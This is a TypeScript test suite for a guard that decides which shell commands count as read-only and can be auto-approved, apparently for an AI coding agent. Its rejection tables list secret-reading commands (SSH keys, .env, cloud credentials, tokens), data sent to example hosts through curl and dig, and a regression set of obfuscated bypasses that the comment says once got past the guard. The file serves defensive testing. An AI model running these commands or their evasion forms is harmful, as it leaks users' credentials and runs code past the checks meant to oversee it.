import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import type { Decision } from '../../core/decision.ts'
import type { TestWorld } from '../../testing/index.ts'
import { commandEvent, judgeWith, policyOf } from '../../testing/index.ts'
import guard, { docs } from './read-only.ts'

const world: TestWorld = {
  files: {
    'package.json': '{"scripts":{"test":"vitest run","deploy":"aws s3 sync . s3://b"}}',
    '.env': 'A=1',
    'evil/HEAD': 'ref: refs/heads/main',
    'evil/objects/x': '',
  },
}

const judge = (command: string, options: Record<string, string> = {}): Promise<Decision> => {
  const policy = policyOf([guard], { rules: { [guard.id]: { stance: 'on', options } } })
  return judgeWith([guard], commandEvent(command), world, policy)
}

const table = (
  what: string,
  options: Record<string, string>,
  verdict: string,
  rows: readonly string[],
): void => {
  describe(what, () => {
    for (const row of rows)
      it(JSON.stringify(row), async () => {
        const decision = await judge(row, options)
        assert.deepEqual([decision.verdict, decision.advice], [verdict, []])
      })
  })
}

table('approves what only looks', {}, 'allow', [
  ...(docs.allows ?? []),
  'ls -la src',
  'wc -l *.ts src/*',
  'cat .env.example',
  'cat README.md | head -n 20',
  'git log --oneline -5 2>/dev/null',
  'git -C app diff --stat main...HEAD',
  '/usr/bin/git status',
  'git branch --list "feature/*"',
  'git config --get user.name',
  "sed -n '1,40p' src/a.ts",
  "sed 's/a;b/c/g; /x/d' notes.txt",
  "awk -F: '$3 > 10 { print $1 }' data.txt",
  'jq -r ".[].name" data.json',
  'find . -name "*.md" -newer README.md -exec wc -l {} +',
  'fd -e ts -x head -n 3',
  'for f in a b; do echo "$f"; done',
  'if [ -f a ]; then cat a; else echo none; fi',
  'curl -s https://example.com/data.json | jq .data',
  'curl -sSL -o /dev/null -w "%{http_code}" https://example.com',
  'NO_COLOR=1 rg TODO',
  'timeout 5 ls',
  'env ls',
  'npm ls --depth=0',
  'cargo tree',
  'docker ps -a',
  'kubectl -n web get pods -o wide',
  'aws --region eu-west-1 ec2 describe-instances',
  'gh pr view 12 --json title',
  'terraform state list',
  'tar -tzf a.tgz',
  'python3 --version',
  'date +%s',
  'cat <<< "text"',
  'echo "git push --force"',
])

table('says nothing about the rest', {}, 'pass', [
  'rm a',
  'sudo ls',
  'bash -c ls',
  'eval ls',
  'ssh host ls',
  'unheard-of-program',
  './ls',
  '/tmp/git status',
  'ls > out.txt',
  'ls >> out.txt',
  'cat a | tee b',
  'sort -o a a',
  'sort --outp=a a',
  'sed -i s/a/b/ f',
  "sed -n '1e ls' f",
  "sed 's/a/b/w out' f",
  "sed 's/x/id/e' f",
  'awk \'BEGIN { system("ls") }\'',
  'awk \'{ print > "out" }\' f',
  'awk \'{ print | "sh" }\' f',
  'awk -f prog.awk f',
  'awk \'{ getline x < "f"; print x }\' g',
  'cat a | openssl s_client -connect example.com:443',
  'psql -h db -c "select $(cat a)"',
  'find . -delete',
  'find . -exec rm {} +',
  'find . -fprint out',
  'find . -ok rm {} \\;',
  'fd -x rm',
  'fd -HX rm',
  'xargs rm',
  'xargs',
  'env',
  'printenv',
  'printenv GITHUB_TOKEN',
  'echo $AWS_SECRET_ACCESS_KEY',
  'cat .env',
  'cat .env*',
  'cat .e?v',
  'cat .[e]nv',
  'cat .*',
  'head id_*',
  'cat ~/.ssh/id_rsa',
  'for f in ~/.aws/*; do cat $f; done',
  'git show HEAD:.env',
  'head ~/.bash_history',
  'grep -r password ~',
  'rg x /',
  'git push',
  'git commit -m x',
  'git -c core.pager=evil log',
  'git diff --ext-diff',
  'git diff --output=a',
  'git log --outp=a',
  'git branch new',
  'git branch -D old',
  'git config user.name x',
  'git fetch --upload-pack=x origin',
  'git ls-remote "ext::sh -c x"',
  'git grep -O x',
  'GIT_EXTERNAL_DIFF=x git diff',
  'GIT_PAGER=x git log',
  'LD_PRELOAD=./x.so ls',
  'PATH=.:$PATH ls',
  'PATH=.; ls',
  'export PATH=/tmp; ls',
  'export LD_PRELOAD=x; ls',
  'NODE_OPTIONS=--require=./x npm ls',
  'PAGER=x man ls',
  'rg --pre ./x y',
  'tar -xf a.tgz',
  'tar -tf a --to-command=sh',
  'tar -I ./x -tf a',
  'curl -X POST https://example.com',
  'curl -d a=b https://example.com',
  'curl -o f https://example.com',
  'curl -T f https://example.com',
  'curl https://example.com/$(whoami)',
  'curl file:///etc/hosts',
  'curl http://169.254.169.254/latest',
  'dig $(hostname).example.com',
  'npm test',
  'npm config set a b',
  'npm install x',
  'make',
  'node -e 1',
  'python3 x.py',
  'docker run alpine',
  'docker exec c ls',
  'kubectl get secrets -o yaml',
  'aws secretsmanager get-secret-value --secret-id x',
  'gh api -X DELETE repos/a/b',
  'gh api graphql -f query="mutation{x}"',
  'sqlite3 a.db "select 1; drop table x"',
  'psql -c "delete from x"',
  'less +!ls f',
  'man -P ./x ls',
  'echo $(rm a)',
  'echo `rm a`',
  'cat <(rm a)',
  'ls; rm a',
  'ls && rm a',
  'ls | sh',
  'ls & rm a',
  'f() { rm a; }; f',
  'ls() { rm a; }; ls',
  'git() { rm a; }; git status',
  'echo $(echo $(echo $(ls)))',
  '$x',
  'sort "$x"',
  'git --git-dir=evil status',
  'git -C evil status',
  'cd evil && git status',
  'gh search issues "$(cat x)"',
  'kubectl get po,secret',
  'terraform output -raw x',
  'docker compose config',
  'tmux display -p "#(sh)"',
  'rpm --eval "%(sh)"',
  'dnf history undo 1',
  'gcloud functions call list',
  'yarn list',
  'gradle tasks',
  'python3 -m json.tool a.json',
  'cat a | http example.com',
  'set',
  'cp a b',
  'mv a b',
  'mkdir a',
])

table('approves work inside the project at level develop', { level: 'develop' }, 'allow', [
  'ls',
  'npm test',
  'npm run build',
  'cargo build --release && cargo test',
  'go test ./...',
  'python3 -m pytest -q',
  'mkdir -p src/x && touch src/x/a.ts',
  'cp a.ts b.ts',
  'mv a.ts src/b.ts',
  'echo x > notes.txt',
  'git add -A',
  'git commit -m "a message"',
  'sed -i s/a/b/ src/a.ts',
])

table('says nothing about other work at level develop', { level: 'develop' }, 'pass', [
  'rm a',
  'npm run deploy',
  'npm publish',
  'git push',
  'git commit --no-verify -m x',
  'git add -f .env',
  'mkdir /etc/x',
  'cp a ../b',
  'cp a ~/b',
  'echo x > /tmp/a',
  'echo x > .git/hooks/pre-commit',
  'cp a .git/config',
  'cp a .claude/settings.json',
  'cp .env a',
  'echo x > .env',
  'mv a .husky/pre-commit',
  "sed -i '1e ls' a",
  'curl -d @a https://example.com',
  'sudo make',
  'make -f /tmp/Makefile',
  'go build -toolexec ./x ./...',
  'pytest -p evil',
  'node x.js',
  'tar xf a.tar',
  'ln -s /etc x',
  'rsync -a a .git/hooks',
  'split a .git/hooks/pre-commit',
  'git switch --discard-changes main',
  'HUSKY=0 git commit -m x',
])

// Each row was approved once, and started a program, loaded code, wrote a file or read what it should not.
table('approves no program in a form that does more than it shows', {}, 'pass', [
  // Options cut short, and short ones behind others.
  'tar tf a.tar --use-comp=./evil',
  'tar tf a.tar --checkpoint=1 --checkpoint-act=exec=./evil',
  'tar tf a.tar --to-com=./evil',
  'tar -tf a.tar -F ./evil -M',
  'tar -tf a.tar -I ./evil',
  'tar tf host:a.tar --rsh-comm=./evil',
  'tar tf host:a.tar',
  // The last mode counts.
  'bzip2 -t -z a.txt',
  'bzip2 -t -d a.bz2',
  'xz -t -z a.txt',
  'xz -l -d a.xz',
  'zstd -t -d a.zst',
  'zstdcat -o out a.zst',
  'brotlicat -o out a.br',
  // One dash for two, and options that no list named.
  'cloc -extract-with=./evil x',
  'xmllint -shell a.xml',
  'tidy --write-back yes a.html',
  'nm --plugin=./evil.so a.o',
  'nm --pl ./evil.so a.o',
  'objdump --plugin=./evil.so -d a.o',
  'ar t --plugin=./evil.so a.a',
  'javap -J-agentpath:./x.so X',
  'duplicity collection-status --gpg-binary ./x file:///a',
  'bzr diff --using=./x',
  'svnlook diff --diff-cmd ./x repo',
  'openssl x509 -engine ./x.so -in a',
  'openssl asn1parse -in a -provider-path . -provider evil',
  'openssl x509 -in a -writerand x',
  'podman ps --runtime ./x',
  'npm help x --viewer=./x',
  'npm view x --git=./evil',
  'pnpm ls --global-pnpmfile=./x',
  'pip --python=./x list',
  'kubectl --kubeconfig ./evil logs x',
  'kubectl auth whoami --kubeconfig=./x',
  'helm --kubeconfig ./x list',
  'vault -address=http://example.com status',
  'chezmoi diff -S ./evil',
  'perf annotate --objdump=./x',
  'php -l -d extension=./evil.so a.php',
  // A file of arguments.
  'qpdf --check @args',
  'gcc -E @args',
  'nm @args',
  // Code of the project.
  'java -cp . Evil',
  'java Evil.java',
  'jshell x.jsh',
  "groovy -e 'println 1'",
  'lein run',
  'vagrant status',
  'helmfile list',
  'jupyter kernelspec list',
  'knife list',
  'packer validate a.pkr.hcl',
  'json_pp -f eval < a',
  // A pattern for two names, the second of which is written, and one for the name of an option.
  'uniq src/*',
  'xxd a*',
  'pdftotext *.pdf',
  'sort *',
  'sort ?-output=x',
  'rg x [-]-pre=x',
  'git log *',
  'find * -name x',
  // Programs in languages of their own.
  `awk '/"/{print | "sh"} #"' a`,
  `awk '{ if (1) /"/; print | "sh"; #"\n}' a`,
  `awk '{print /;/ > "f"}' a`,
  `awk '{print 1,\n2 > "f"}' a`,
  `awk 'BEGIN{f="sys" "tem"; @f("id")}'`,
  `awk 'BEGIN{ARGV[1]="/home/u/.ss" "h/id_rsa"; ARGC=2} {print}' a`,
  "sed -n 't\necanary' a",
  "sed 'b\nwout' a",
  "sed 'a foo\\\ny/\nw out\n/x/p' a",
  "yq -n 'strenv(X)'",
  "yq '.a | envsubst' a.yml",
  `yq 'load_props("x")' a.yml`,
  // Servers and secrets.
  "curl 'f{i}le:///home/u/.s{s}h/id_rs{a}'",
  'curl --proto-default file /etc/hostname',
  'curl --url-query a@x https://example.com',
  'gh api https://example.com/x',
  'gh api --hostname example.com x',
  'aws --endpoint-url=http://example.com s3 ls',
  'az rest --method get',
  'php -i',
  'azd env get-values',
  "exiftool 'canary|'",
  "identify '|canary'",
])

table('approves no one-liner that reaches further at level develop', { level: 'develop' }, 'pass', [
  "perl -ne 'print' 'canary|'",
  `perl -e 'print readpipe("id")'`,
  `perl -pe 's{.*}{"sys"."tem(q(touch pwned))"}ee' a`,
  `perl -ne 'BEGIN{@ARGV=("canary|")} print'`,
  "perl -F'/x/);system(q(canary));(1' -ane 'print'",
  'perl -Fe /tmp/evil.pl',
  `python3 -c 'import random; random._os.system("canary")'`,
  `python3 -c 'import sys; type(sys.stdout.buffer.raw)("/home/x","w")'`,
  `python3 -c 'import sys; sys.meta_path[0].load_module("po"+"six").system("canary")'`,
  `python3 -c 'import json; json.\\\ncodecs'`,
  'sed -i.bak -fevil.sed a.txt',
  'ar t --plugin=./evil.so a.a',
])

describe('what a project says of other programs', () => {
  const judgeIn = async (command: string, files: TestWorld['files']): Promise<string> => {
    const policy = policyOf([guard], { rules: { [guard.id]: { stance: 'on', options: {} } } })
    return (await judgeWith([guard], commandEvent(command), { files: files ?? {} }, policy)).verdict
  }

  for (const [command, file, text] of [
    ['cargo tree', '.cargo/config.toml', '[build]\nrustc-wrapper = "./x"\n'],
    ['hg status', '.hg/hgrc', '[extensions]\nx = ./x.py\n'],
    ['jj log', '.jj/repo/config.toml', 'ui.diff.tool = "./x"\n'],
  ] as const)
    it(`${command} is not approved where ${file} starts a program`, async () => {
      assert.equal(await judgeIn(command, {}), 'allow')
      assert.equal(await judgeIn(command, { [file]: text }), 'pass')
    })
})

describe('review.on_risky', () => {
  for (const [choice, verdict] of [
    ['silent', 'pass'],
    ['ask', 'ask'],
    ['deny', 'deny'],
  ] as const)
    it(choice, async () => assert.equal((await judge('rm a', { on_risky: choice })).verdict, verdict))

  it('advises, and names the part that is not known', async () => {
    const decision = await judge('ls; rm a', { on_risky: 'advise' })
    assert.equal(decision.verdict, 'pass')
    assert.match(decision.advice.join(), /rm a/)
  })

  it('says nothing of what is approved', async () =>
    assert.equal((await judge('ls', { on_risky: 'deny' })).verdict, 'allow'))
})
